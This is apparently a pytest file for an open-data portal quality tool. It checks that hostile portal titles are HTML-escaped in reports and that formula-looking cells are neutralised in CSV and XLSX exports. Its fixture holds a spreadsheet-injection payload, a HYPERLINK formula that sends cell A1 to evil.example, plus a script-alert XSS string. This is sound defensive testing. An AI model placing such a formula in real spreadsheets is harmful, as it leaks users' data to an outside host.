"""Reports and exports treat portal content as hostile: escaped HTML, neutralised spreadsheet formulas; ties rank 并列."""

from __future__ import annotations

import copy
import csv
import json
import re
import zipfile

import pytest
from openpyxl import load_workbook

from checks.assess import AssessOptions
from harvester.run import run_harvest
from odq.pipeline import assess_and_score, make_http, report
from odq.replay import ReplayServer, catalogue_from_packages
from reports.export import export_metadata, league_rows, neutralise, write_export
from reports.model import build_report
from reports.render import write_report
from tests.conftest import ckan_profile, real_fixture

SCRIPT = '<script>alert("pwned")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Two city portals with the same (real Birmingham) catalogue, one with hostile titles and publisher."""
    from harvester.store import Store

    envelope = json.loads(real_fixture("ckan_data.birmingham.gov.uk", "package_search_q_purchase_card.json")
                          .read_text(encoding="utf-8"))
    packages = envelope["result"]["results"]
    evil = copy.deepcopy(packages)
    evil[0]["title"] = SCRIPT
    evil[1]["title"] = FORMULA
    evil[0]["organization"]["title"] = f"{FORMULA}{SCRIPT}"
    directory = tmp_path_factory.mktemp("reports")
    store = Store(f"sqlite:///{directory / 'odq.sqlite'}")
    for portal_id, catalogue in (("evil-city", evil), ("twin-a", packages), ("twin-b", packages)):
        with ReplayServer(catalogue_from_packages(catalogue)) as server:
            profile = ckan_profile(server.base, portal_id)
            http = make_http(profile)
            assert run_harvest(profile, store, http).status == "complete"
            assess_and_score(store, profile, http, AssessOptions(check_links=False, validate_files=False))
    page = report(store, "evil-city", directory / "evil-city")
    return {"store": store, "dir": directory, "html": page.read_text(encoding="utf-8")}


def test_portal_text_is_escaped_in_the_html_report(hostile):
    html = hostile["html"]
    assert SCRIPT not in html
    assert "&lt;script&gt;alert(&#34;pwned&#34;)&lt;/script&gt;" in html
    assert "<script" not in html


def test_exports_neutralise_formulas_and_rank_ties_together(hostile):
    store, directory = hostile["store"], hostile["dir"]
    rows = league_rows(store, "cstc2019-website", "city")
    by_id = {row["portal_id"]: row for row in rows}
    assert by_id["twin-a"]["composite"] == by_id["twin-b"]["composite"]
    assert by_id["twin-a"]["rank"] == by_id["twin-b"]["rank"]
    assert by_id["twin-a"]["rank_label"].startswith("并列第")

    hostile_row = {"portal": FORMULA, "note": "+1-2", "ok": "plain", "number": 0.5}
    csv_path = write_export([*rows, hostile_row], directory / "scores.csv")
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for line in csv.reader(handle) for cell in line]
    assert f"'{FORMULA}" in cells and FORMULA not in cells
    assert "'+1-2" in cells



def test_xlsx_is_one_an_evaluator_can_use_and_keeps_formulas_as_text(hostile):
    """Styled header, frozen panes, filter, widths, numbers as numbers, a metadata sheet; a formula-looking
    title is a text cell with no visible apostrophe (the CSV keeps the apostrophe: it has no cell types)."""
    store, directory = hostile["store"], hostile["dir"]
    rows = league_rows(store, "cstc2019-website", "city")
    hostile_row = {"portal": FORMULA, "note": "+1-2", "ok": "plain", "number": 0.5, "calc": "=1+1"}
    path = write_export([*rows, hostile_row], directory / "scores.xlsx",
                        metadata=export_metadata("cstc2019-website", "city", rows))
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["scores", "metadata"]
    sheet = workbook["scores"]
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["rank", "rank_label", "portal_id", "portal"]
    assert sheet.freeze_panes == "E2"  # header row and the four identifying columns stay in view
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(row=1, column=len(header)).column_letter}{len(rows) + 2}"
    assert sheet["A1"].font.b and sheet["A1"].fill.fgColor.rgb.endswith("17324D")
    assert sheet.column_dimensions["D"].width >= 12
    by_header = {name: index for index, name in enumerate(header)}
    first = [c for c in sheet[2]]
    assert first[by_header["rank"]].data_type == "n" and first[by_header["rank"]].value == 1
    composite = first[by_header["composite"]]
    assert composite.data_type == "n" and 0 < composite.value < 1 and composite.number_format == "0.0000"

    cells = [cell for row in sheet.iter_rows() for cell in row]
    formula_cells = [c for c in cells if c.value == FORMULA]  # exactly as the portal wrote it, no apostrophe
    assert len(formula_cells) == 1 and formula_cells[0].data_type == "s" and formula_cells[0].quotePrefix
    assert [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("'")] == []
    with zipfile.ZipFile(path) as archive:  # no formula element anywhere in the sheet
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    assert any(c.value == 0.5 and c.data_type == "n" for c in cells)
    (calc,) = [c for c in cells if c.value == "=1+1"]  # read back: a string with a quote prefix, not a formula
    assert calc.data_type == "s" and calc.quotePrefix

    about = {row[0].value: row[1].value for row in workbook["metadata"].iter_rows() if row[0].value}
    assert about["system"] == "cstc2019-website" and about["level"] == "city"
    assert about["odq version"] and about["generated at (UTC)"] and about["system name"]
    harvested = sorted(row["harvested_at"] for row in rows)
    assert about["harvests from (UTC)"] == harvested[0] and about["harvests to (UTC)"] == harvested[-1]
    assert about["portal_id"] == "harvest_id"  # the per-harvest table's header row follows


@pytest.mark.parametrize(("value", "expected"), [("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("-3", "'-3"),
                                                 ("safe", "safe"), (3, 3), (None, None)])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_points_waiting_for_an_evaluator_and_the_known_maximum_are_shown(hostile, tmp_path):
    """A point odq cannot measure is 待人工核验 / needs an evaluator's check, and leaves the maximum."""
    content = build_report(hostile["store"], "evil-city")
    scored = next(s for s in content["scores"] if s["applicable"])
    indicator = next(i for i in scored["indicators"] if i["applicable"])
    point = indicator["assessment_points"][0]
    point.update(needs_check=True, score=None, points=None)
    scored["known_maximum"] = scored["maximum"] - 1
    scored["needs_check"] = [{"indicator": indicator["id"], "point": point["id"], "name": point["name"],
                              "name_en": "catalogue published?", "maximum": 1, "reason": "not-measurable",
                              "reason_zh": "无法从外部测得", "reason_en": "could not be measured from outside"}]
    zh = write_report(content, tmp_path / "zh", lang="zh").read_text(encoding="utf-8")
    en = write_report(content, tmp_path / "en", lang="en").read_text(encoding="utf-8")
    assert zh.count("待人工核验") >= 2 and "无法从外部测得" in zh
    assert en.count("needs an evaluator&#39;s check") >= 2 and "catalogue published?" in en
    assert f"{scored['maximum'] - 1:g} known maximum (full maximum {scored['maximum']:g})" in en
    assert "nan" not in zh.lower().replace("nanjing", "")


def test_worst_datasets_link_to_their_landing_pages(hostile):
    html = hostile["html"]
    links = re.findall(r'<a href="([^"]+)" rel="noopener noreferrer" target="_blank">', html)
    assert links and all(re.fullmatch(r"http://127\.0\.0\.1:\d+/dataset/[\w-]+", link) for link in links)


def test_the_validation_results_are_in_the_page(hostile):
    """GX's Data Docs need CDNs; each share expectation's verdict is rendered in odq's own page instead."""
    html = hostile["html"]
    section = html[html.index('id="validation"'):html.index('id="history"')]
    assert section.count("expect_column_values_to_be_in_set") >= 8
    assert "<code>category_share</code>" in section and "data-docs" not in html


# ---- the datasets behind each covered domain --------------------------------------------------------------

def _package(name: str, title: str, organization: str, groups: list[str]) -> dict:
    return {"id": name, "name": name, "title": title, "notes": "", "license_id": "cc-by",
            "metadata_created": "2025-01-01T00:00:00", "metadata_modified": "2025-01-01T00:00:00",
            "organization": {"name": organization, "title": organization},
            "groups": [{"name": g, "title": g, "display_name": g} for g in groups], "tags": [], "resources": []}


@pytest.fixture(scope="module")
def domain_report(tmp_path_factory):
    """A hand-built city catalogue: three datasets in 医疗卫生 for three reasons, one in 交通运输, one in none."""
    from harvester.store import Store

    packages = [
        _package("hospitals", "医院名录", "city-stats", []),
        _package("clinic-hours", "门诊时间", "city-stats", []),
        _package("licences", "机构名单", "卫生健康委员会", []),
        _package("bus-lines", "公交线路", "city-stats", []),
        _package("weather", "天气观测", "city-stats", []),
    ]
    directory = tmp_path_factory.mktemp("domains")
    store = Store(f"sqlite:///{directory / 'odq.sqlite'}")
    with ReplayServer(catalogue_from_packages(packages)) as server:
        profile = ckan_profile(server.base, "domain-city")
        http = make_http(profile)
        assert run_harvest(profile, store, http).status == "complete"
        assess_and_score(store, profile, http, AssessOptions(check_links=False, validate_files=False))
    page = report(store, "domain-city", directory / "out")
    return {"content": build_report(store, "domain-city"),
            "json": json.loads((page.parent / "report.json").read_text(encoding="utf-8"))}


def test_report_json_lists_the_datasets_of_each_domain_with_the_reason(domain_report):
    listed = {d["id"]: d for d in domain_report["json"]["domains"]}
    assert list(listed) == ["market_entities", "human_resources_social_security", "education", "health",
                            "civil_affairs", "construction", "transport", "culture", "science_technology",
                            "agriculture", "work_safety", "environment"]
    health = listed["health"]
    assert (health["name_zh"], health["datasets"]) == ("医疗卫生", 3)
    assert sorted((g["rule"], g["evidence"], tuple(g["datasets"])) for g in health["reasons"]) == [
        ("department", "卫生健康委员会", ("licences",)),
        ("title", "医院", ("hospitals",)),
        ("title", "门诊", ("clinic-hours",)),
    ]
    assert listed["transport"]["reasons"] == [{"rule": "title", "evidence": "公交", "datasets": ["bus-lines"]}]
    assert listed["education"] == {"id": "education", "name_zh": "教育", "name_en": "education", "datasets": 0,
                                   "covered": False, "min_datasets": listed["education"]["min_datasets"],
                                   "reasons": []}
    assert not any("weather" in g["datasets"] for d in listed.values() for g in d["reasons"])


def test_covered_follows_the_n_the_measure_was_counted_with(domain_report):
    # the shipped CSTC profiles count a domain from 3 datasets: 医疗卫生 (3) is covered, 交通运输 (1) is not
    listed = {d["id"]: d for d in domain_report["content"]["domains"]}
    assert listed["health"]["min_datasets"] == 3
    assert listed["health"]["covered"] and not listed["transport"]["covered"]


def test_the_full_list_is_in_the_report_once_and_the_measure_keeps_examples(domain_report):
    measure = next(m for family in domain_report["json"]["families"] for m in family["measures"]
                   if m["measure_id"] == "domains_covered")
    assert "reasons" not in measure["detail"]
    examples = {e["native_id"]: e for e in measure["detail"]["examples"]["health"]}
    assert sorted(examples) == ["clinic-hours", "hospitals", "licences"]
    assert examples["hospitals"] == {"native_id": "hospitals", "title": "医院名录", "rule": "title", "evidence": "医院"}
    assert examples["licences"]["rule"] == "department" and "transport" in measure["detail"]["examples"]


# ---- raw keys the mapping does not read -------------------------------------------------------------------

def _birmingham_packages() -> list[dict]:
    envelope = json.loads(real_fixture("ckan_data.birmingham.gov.uk", "package_search_q_purchase_card.json")
                          .read_text(encoding="utf-8"))
    return envelope["result"]["results"]


def test_unmapped_raw_keys_are_listed_with_their_share(hostile):
    packages = _birmingham_packages()
    share = {key: sum(1 for p in packages if p.get(key)) / len(packages) for key in ("author_email", "url", "version")}
    described = sum(1 for p in packages if any(r.get("description") for r in p["resources"])) / len(packages)
    assert share == {"author_email": 1.0, "url": 0.9, "version": 0.8} and described == 0.9
    html = hostile["html"]
    section = html[html.index('id="unmapped-keys"'):html.index('id="methodology"')]
    rows = re.findall(r"<tr><td><code>([^<]+)</code></td><td>([^<]+)</td><td class=\"num\">([^<]+)</td></tr>", section)
    assert rows == [("author_email", "数据集顶层", "100.0%"), ("url", "数据集顶层", "90.0%"),
                    ("description", "资源", "90.0%"), ("version", "数据集顶层", "80.0%")]
    assert "超过 50% 的数据集" in section


def test_no_unmapped_keys_section_when_the_adapter_declares_no_keys(hostile, tmp_path):
    from sqlalchemy import update

    from harvester.store import HarvestRow

    store = hostile["store"]
    harvest = store.current_harvest("twin-a")
    info = {k: v for k, v in harvest.info.items() if k != "unmapped_keys"}
    with store.engine.begin() as conn:
        conn.execute(update(HarvestRow).where(HarvestRow.id == harvest.id).values(info=info))
    html = report(store, "twin-a", tmp_path / "twin-a").read_text(encoding="utf-8")
    assert 'id="unmapped-keys"' not in html and "未读取的原始字段" not in html
